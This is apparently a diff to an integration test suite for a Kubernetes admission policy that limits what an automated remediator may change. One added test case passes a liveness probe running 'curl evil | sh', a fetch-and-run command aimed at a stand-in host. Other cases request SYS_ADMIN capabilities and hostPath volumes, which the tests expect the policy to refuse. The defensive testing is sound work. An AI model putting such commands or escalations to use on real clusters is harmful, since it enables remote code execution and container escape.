@@ -66,7 +66,10 @@ beforeAll(async () => {
   namespace = await createNamespace('admission');
   rollbacks = await createNamespace('admission-rollback');
   await admin().core.patchNamespace(
-    { name: rollbacks, body: { metadata: { labels: { 'kubemend.io/allow-rollback': 'true' } } } },
+    {
+      name: rollbacks,
+      body: { metadata: { labels: { 'kubemend.io/allow-rollback': 'true', 'kubemend.io/allow-retry': 'true' } } },
+    },
     merge,
   );
   await deploymentIn(namespace, 'web');
@@ -136,7 +139,7 @@ describe('the remediator admission policy', () => {
       merge,
     );
     await batch.createNamespacedJob({
-      namespace,
+      namespace: rollbacks,
       body: {
         metadata: { name: 'retry' },
         spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'x' }] } } },
@@ -157,6 +160,30 @@ describe('the remediator admission policy', () => {
     ['the ServiceAccount', { spec: { template: { spec: { serviceAccountName: 'admin' } } } }],
     ['CPU', { spec: { template: { spec: { containers: [{ name: 'app', resources: { limits: { cpu: '8' } } }] } } } }],
     ['another annotation', { spec: { template: { metadata: { annotations: { 'sidecar.example/inject': 'true' } } } } }],
+    [
+      'a probe that runs a command',
+      {
+        spec: {
+          template: {
+            spec: {
+              containers: [{ name: 'app', livenessProbe: { exec: { command: ['sh', '-c', 'curl evil | sh'] } } }],
+            },
+          },
+        },
+      },
+    ],
+    [
+      'the nodes it runs on',
+      { spec: { template: { spec: { nodeSelector: { 'node-role.kubernetes.io/control-plane': '' } } } } },
+    ],
+    [
+      'a GPU',
+      {
+        spec: {
+          template: { spec: { containers: [{ name: 'app', resources: { limits: { 'nvidia.com/gpu': '1' } } }] } },
+        },
+      },
+    ],
   ])('refuses a change of %s to a workload', async (_what, body) => {
     expect(await refusal(apps.patchNamespacedDeployment({ namespace, name: 'web', body }, merge))).toContain(
       "kubemend's remediator may change a workload's pod template only by its restart annotation and its containers' memory",
@@ -171,7 +198,9 @@ describe('the remediator admission policy', () => {
           merge,
         ),
       ),
-    ).toContain('may not add a privileged container, a hostPath volume or a host namespace');
+    ).toContain(
+      'may not add a privileged or escalating container, capabilities, a host port, a hostPath volume or a host namespace',
+    );
     const hostPath: V1Job = {
       metadata: { name: 'escape' },
       spec: {
@@ -184,7 +213,35 @@ describe('the remediator admission policy', () => {
         },
       },
     };
-    expect(await refusal(batch.createNamespacedJob({ namespace, body: hostPath }))).toContain('hostPath');
+    expect(await refusal(batch.createNamespacedJob({ namespace: rollbacks, body: hostPath }))).toContain('hostPath');
+    expect(
+      await refusal(
+        apps.patchNamespacedDeployment(
+          {
+            namespace: rollbacks,
+            name: 'web',
+            body: {
+              spec: {
+                template: {
+                  spec: { containers: [{ name: 'app', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }] },
+                },
+              },
+            },
+          },
+          merge,
+        ),
+      ),
+    ).toContain('capabilities');
+  });
+
+  it('creates a Job only where an admin allows retries', async () => {
+    const plain: V1Job = {
+      metadata: { name: 'retry-elsewhere' },
+      spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'x' }] } } },
+    };
+    expect(await refusal(batch.createNamespacedJob({ namespace, body: plain }))).toContain(
+      'may create a Job only in a namespace labelled kubemend.io/allow-retry=true',
+    );
   });
 
   it('admits a rollback only in a namespace an admin labelled for it', async () => {
@@ -198,14 +255,6 @@ describe('the remediator admission policy', () => {
   });
 
   it('refuses any write in the control plane’s namespaces, and an HPA pointed elsewhere', async () => {
-    expect(
-      await refusal(
-        apps.patchNamespacedDeployment(
-          { namespace: 'kube-system', name: 'coredns', body: { spec: { replicas: 3 } } },
-          merge,
-        ),
-      ),
-    ).toMatch(/may not write in the control plane's namespaces|not found/);
     await admin().apps.createNamespacedDeployment({
       namespace: 'kube-system',
       body: {
